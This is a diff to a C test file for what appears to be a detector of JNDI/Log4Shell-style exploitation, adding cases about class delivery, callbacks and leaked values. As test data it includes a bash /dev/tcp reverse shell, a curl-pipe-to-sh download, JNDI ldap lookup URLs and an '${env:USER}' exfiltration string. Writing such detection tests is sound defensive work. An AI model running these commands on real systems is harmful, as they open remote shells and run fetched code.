@@ -281,6 +281,30 @@ static void what_came_of_it_may_be_known_first(void **state)
                 ATTR_JAVA_HOST, with_port ? "203.0.113.77:4444" : "203.0.113.77", ATTR_N);
         told_is(t, "v1 d1 c1 ");
     }
+    /* Named by a URL of the class, by a command in it, by the command in the lookup's own name. */
+    for (unsigned how = 0; how < 3; how++) {
+        static const char *const texts[] = {"http://203.0.113.77:4444/x",
+                                            "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
+                                            "curl -s 'http://203.0.113.77:4444/x'|sh"};
+        int id = how == 0 ? ATTR_JAVA_URL : how == 1 ? ATTR_JAVA_COMMAND : ATTR_JAVA_CLIENT;
+
+        finding(t, out(200), home(1), 8080, 0, "http", T0, "lookup", ATTR_JNDI_NAME,
+                "ldap://203.0.113.9:1389/a", how == 2 ? ATTR_JNDI_COMMAND : ATTR_JNDI_KIT, texts[how],
+                ATTR_N);
+        callback(t, 1, 9, "a", T0 + S);
+        finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "yes",
+                id, how == 2 ? "yes" : texts[how], ATTR_N);
+        connection(t, 1, out(77), 4444, CONNECTION_ESTABLISHED, "", T0 + 3 * S);
+        told_is(t, "v1 d1 c1 ");
+    }
+    /* Everybody calls there. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "yes",
+            ATTR_JAVA_URL, "https://203.0.113.77/x", ATTR_N);
+    for (uint8_t n = 11; n < 14; n++)
+        connection(t, n, out(77), 443, CONNECTION_TALKED, "tls", T0 - S);
+    connection(t, 1, out(77), 443, CONNECTION_TALKED, "tls", T0 + 3 * S);
+    told_is(t, "d1 ");
     /* It was there before the payload. */
     lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
     connection(t, 1, out(9), 4444, CONNECTION_ESTABLISHED, "", T0 + S);
@@ -498,6 +522,11 @@ static void values_come_back_in_the_callback(void **state)
     assert_int_equal(t->n_leaks, 1);
     assert_string_equal(t->dn, "t****t");
     told_is(t, "v1 ");
+    callback(t, 1, 9, "tomcat", T0 + S); /* told before its cause, as long as nobody knew what it carries */
+    assert_string_equal(t->dn, "tomcat");
+    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
+    assert_int_equal(t->n_leaks, 1);
+    told_is(t, "v1 v1 ");
     t->config->show_secrets = true;
     restart(t);
     lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
